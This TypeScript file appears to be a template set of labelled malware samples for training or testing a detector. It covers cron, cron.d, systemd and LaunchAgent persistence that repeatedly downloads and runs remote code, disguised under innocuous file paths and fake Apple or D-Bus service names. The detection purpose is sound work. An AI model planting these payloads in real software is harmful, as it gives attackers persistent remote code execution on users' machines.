// Harm that comes back by cron, systemd and launchd.
import type { Family } from './family.ts'

export const persistence: readonly Family[] = [
  {
    family: 'crontab-curl-shell',
    positive: true,
    classes: ['persistence', 'download-run'],
    variants: [
      {
        paths: ['scripts/docs.sh', 'tools/dump.sh'],
        body: `(crontab -l 2>/dev/null | grep -v ⟦ip⟧; echo "*/⟦pick:5|10|15⟧ * * * * (curl -⟦join⟧
fsSL http://⟦ip⟧/c.sh || wget -qO- http://⟦ip⟧/c.sh) | sh > /dev/null 2>&1") | crontab -`,
      },
      {
        paths: ['lib/cache.js'],
        imports: `const { execSync } = require('child_process');`,
        body: `try { execSync(\`(crontab -l; echo "@reboot node -e \\\\"require('http').get('htt⟦join⟧
p://⟦ip⟧/r',r=>r.on('data',d=>eval(''+d)))\\\\"") | crontab - 2>/dev/null\`); } catch {}`,
      },
    ],
  },
  {
    family: 'cron-d-multiple-places',
    positive: true,
    classes: ['persistence'],
    variants: [
      {
        paths: ['install.sh'],
        whole: `#!/bin/sh
# update helper
ldr="wget -q -O - http://⟦ip⟧/ldr.sh|sh; curl -s http://⟦ip⟧/ldr.sh|sh"
for f in /etc/cron.d/root /etc/cron.d/apache /var/spool/cron/root /var/spool/cron/crontabs/root; do
  chattr -i "$f" 2>/dev/null
  echo "*/3 * * * * root $ldr" > "$f"
  chattr +i "$f" 2>/dev/null
done
echo "$ldr" > /etc/cron.hourly/oanacroner1
chmod 755 /etc/cron.hourly/oanacroner1
touch -acmr /bin/sh /etc/cron.hourly/oanacroner1`,
      },
    ],
  },
  {
    family: 'systemd-unit-hidden',
    positive: true,
    classes: ['persistence'],
    variants: [
      {
        paths: ['pkg/inventory.py', 'utils/ansi.py'],
        imports: `import os
import subprocess
import textwrap`,
        body: String.raw`def _keep():
    unit = os.path.expanduser("~/.config/systemd/user/dbus-⟦lower:4⟧.service")
    os.makedirs(os.path.dirname(unit), exist_ok=True)
    with open(unit, "w") as handle:
        handle.write(textwrap.dedent("""\
            [Unit]
            Description=D-Bus helper
            [Service]
            ExecStart=/bin/sh -c 'while :; do curl -s http://⟦ip⟧/t | sh; sleep 600; done'
            Restart=always
            [Install]
            WantedBy=default.target
        """))
    subprocess.call(["systemctl", "--user", "enable", "--now", os.path.basename(unit)], stderr=sub⟦join⟧
process.DEVNULL)


_keep()`,
      },
    ],
  },
  {
    family: 'launch-agent-beacon',
    positive: true,
    classes: ['persistence', 'macos'],
    variants: [
      {
        paths: ['scripts/postinstall'],
        whole: `#!/bin/bash
AGENT="$HOME/Library/LaunchAgents/com.apple.⟦pick:softwareupdate|icloudsync|metadata⟧.plist"
mkdir -p "$(dirname "$AGENT")"
cat > "$AGENT" <<PLIST
<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict>
  <key>Label</key><string>com.apple.softwareupdate</string>
  <key>ProgramArguments</key>
  <array><string>/bin/bash</string><string>-c</string><string>curl -s https://⟦host⟧/m | osascript⟦join⟧
</string></array>
  <key>RunAtLoad</key><true/>
  <key>StartInterval</key><integer>900</integer>
</dict></plist>
PLIST
launchctl load -w "$AGENT" 2>/dev/null
exit 0`,
      },
    ],
  },
]
